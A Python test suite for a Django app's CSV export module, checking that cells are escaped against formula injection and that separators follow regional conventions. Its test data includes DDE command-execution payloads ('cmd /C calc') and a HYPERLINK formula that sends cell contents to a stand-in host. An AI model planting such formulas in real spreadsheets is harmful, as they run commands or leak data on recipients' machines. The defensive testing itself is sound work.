"""Cells that no program takes for a formula."""

import csv
import datetime
import io
import pkgutil
import unicodedata

import pytest
from django.conf import locale
from django.utils.formats import get_format
from hypothesis import given
from hypothesis import strategies as st

from boards.rules.spreadsheets import SEPARATORS, Dialect, cell, plain, separator_for, write

pytestmark = pytest.mark.once

STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
DANGEROUS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff20SUM(1,1)",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    'DDE ("cmd";"/C calc";"!A0")A0',
    '"=1+1"',
    'a",=1+1,"b',
    "a;=1+1;b",
    "a\n=1+1\nb",
    "=1+1;=2+2",
    "%0A=1+1",
]
HARMLESS = ["a,b", 'a"b', "007", "1E5", "2024-01-02", "TRUE", "a - b", "x = y", "it's", "'quoted'", "line1\nline2", ""]


def pieces(text: str) -> list[str]:
    """What a program might take for cells of their own."""
    for separator in ',;|\t\r\n"':
        text = text.replace(separator, "\0")
    return text.split("\0")


def first_ink(text: str) -> str:
    """The first character that is no blank and has a width."""
    return next((each for each in text if not each.isspace() and unicodedata.category(each) != "Cf"), "")


@pytest.mark.parametrize("text", DANGEROUS)
def test_nothing_begins_like_a_formula(text):
    made = cell(text)
    assert made != text
    assert not [piece for piece in pieces(made) if first_ink(piece) in STARTS]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays(text):
    assert cell(text) == text


@pytest.mark.parametrize("text", [*DANGEROUS, *HARMLESS, "-5", "+49 30 123456", "- item", "'=1+1", "''=1", "--"])
def test_the_text_can_be_had_back(text):
    assert plain(cell(text)) == text


@given(st.text(alphabet="=+-@'\" ,;|\t\n\u200bDE%0Aa1"))
def test_any_text_is_safe_and_can_be_had_back(text):
    made = cell(text)
    assert plain(made) == text
    assert not [piece for piece in pieces(made) if first_ink(piece) in STARTS]


def test_hostile_lists_are_safe(hostile_texts):
    for text in hostile_texts:
        assert plain(cell(text)) == text
        assert not [piece for piece in pieces(cell(text)) if first_ink(piece) in STARTS]


HEAD = ("name", "day", "value")
# As a spreadsheet of a region reads: split at its separator, a fraction by its decimal sign.
REGIONS = {
    "German": ("de-DE", ";", ","),
    "French": ("fr-FR", ";", ","),
    "English": ("en-US", ",", "."),
    "Japanese": ("ja", ",", "."),
    "Swiss German": ("de-CH", ";", "."),
    "Swiss French": ("fr-CH", ";", ","),
    "Swiss Italian": ("it-CH", ";", "."),
}


@pytest.mark.parametrize(("language", "separator", "decimal"), REGIONS.values(), ids=REGIONS)
def test_file_opens_in_columns_where_it_is_read(language, separator, decimal):
    texts = ["a,b;c\td", 'say "no"', "line 1\nline 2", "=1+1", "Zoë 项目", ""]
    day = datetime.date(2026, 11, 2)
    content = write([HEAD, *((text, day, 1.5) for text in texts)], SEPARATORS[separator_for(language)])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=separator))
    assert rows[0] == list(HEAD)
    assert [plain(row[0]) for row in rows[1:]] == texts
    assert {(row[1], row[2]) for row in rows[1:]} == {("2026-11-02", f"1{decimal}5")}


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell():
    rows = [("a", None, -3, -0.5)]
    assert write(rows, Dialect(has_mark=False)) == b"a,,-3,-0.5\r\n"
    assert write(rows, Dialect(";", ",", has_mark=False)) == b"a;;-3;-0,5\r\n"


def test_mark_stands_first_or_not_at_all():
    assert write([HEAD], Dialect()).startswith(b"\xef\xbb\xbfname")
    assert write([HEAD], Dialect(has_mark=False)).startswith(b"name")


@pytest.mark.parametrize("name", SEPARATORS)
def test_separator_is_found_by_those_who_guess(name):
    content = write([HEAD, ("One", datetime.date(2026, 1, 1), 3), ("Two", None, 5)], SEPARATORS[name])
    found = csv.Sniffer().sniff(content.decode("utf-8-sig"), delimiters=",;\t")
    assert found.delimiter == SEPARATORS[name].separator


@pytest.mark.parametrize(
    ("language", "name"),
    [
        ("de", "semicolon"),
        ("de-at", "semicolon"),
        ("de-CH", "semicolon-point"),
        ("de_ch", "semicolon-point"),
        ("de-Latn-CH", "semicolon-point"),
        ("de-LI", "semicolon-point"),
        ("en-CH", "semicolon-point"),
        ("it-CH", "semicolon-point"),
        ("rm", "semicolon-point"),
        ("gsw", "semicolon-point"),
        ("fr-CH", "semicolon"),
        ("it-IT", "semicolon"),
        ("fr-CA", "semicolon"),
        ("pt-BR", "semicolon"),
        ("en", "comma"),
        ("en-GB", "comma"),
        ("en-ZA", "semicolon"),
        ("es-ES", "semicolon"),
        ("es-MX", "comma"),
        ("es-419", "comma"),
        ("es-CU", "comma"),
        ("zh-Hant-TW", "comma"),
        ("sr_Latn_RS", "semicolon"),
        ("*", "comma"),
        ("", "comma"),
        ("-", "comma"),
    ],
)
def test_language_tells_the_separator(language, name):
    assert separator_for(language) == name


# Where Django's formats and CLDR disagree (of de-CH, Django's say that they can't be right), or the language is written
# in regions of both kinds.
DISPUTED = {"ar", "de-CH", "fy", "ka", "km", "ky"}


def test_languages_with_a_decimal_comma_are_those_that_django_knows():
    known = {each.name.replace("_", "-") for each in pkgutil.iter_modules(locale.__path__)} - DISPUTED
    with_comma = {name for name in known if get_format("DECIMAL_SEPARATOR", name, use_l10n=True) == ","}
    assert {name for name in known if SEPARATORS[separator_for(name)].decimal == ","} == with_comma


def test_empty_lines_within_a_text_stay_empty():
    assert cell("First.\n\nSecond.\n\n- third") == "First.\n\nSecond.\n\n'- third"
    assert plain(cell("First.\n\n- second\n'\n=third")) == "First.\n\n- second\n'\n=third"
